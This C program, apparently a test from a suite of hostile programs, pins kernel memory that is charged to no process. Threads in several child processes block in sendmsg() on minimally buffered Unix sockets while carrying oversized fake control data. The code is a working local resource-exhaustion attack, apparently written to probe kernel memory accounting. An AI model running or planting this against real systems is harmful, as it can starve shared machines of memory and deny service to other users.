/* The control data of sendmsg() are copied into kernel memory that counts for nobody, and stay there
 * as long as the call waits for room: up to 128 KB for each socket and thread. */
#include "hostile.h"

static char control[120000];

/* Threads of several processes: each has a table of descriptors of its own. */
static void *wait_for_room(void *argument)
{
    int pair[2];
    static char bytes[4096];
    struct iovec all = {bytes, sizeof bytes};
    struct msghdr message = {.msg_iov = &all, .msg_iovlen = 1, .msg_control = control};
    (void)argument;
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0)
        return NULL;
    int least = 1;
    setsockopt(pair[0], SOL_SOCKET, SO_SNDBUF, &least, sizeof least);
    for (;;) {
        /* where that is too much, what the older kernel's limit is */
        message.msg_controllen = sizeof control;
        if (sendmsg(pair[0], &message, 0) < 0)
            message.msg_controllen = 16000;
        if (sendmsg(pair[0], &message, 0) < 0)
            return NULL;
    }
}

static void work(int number)
{
    pthread_attr_t small;
    pthread_t thread;
    (void)number;
    pthread_attr_init(&small);
    pthread_attr_setstacksize(&small, 16384);
    for (int i = 0; i < 100; i++)
        if (pthread_create(&thread, &small, wait_for_room, NULL) != 0)
            break;
    usleep(200000);
}

int main(void)
{
    struct cmsghdr *head = (struct cmsghdr *)control;
    head->cmsg_len = 120000; /* of a level that is nobody's: copied and not looked at */
    head->cmsg_level = 4711;
    in_children(6, work);
    HELD();
    return 0;
}
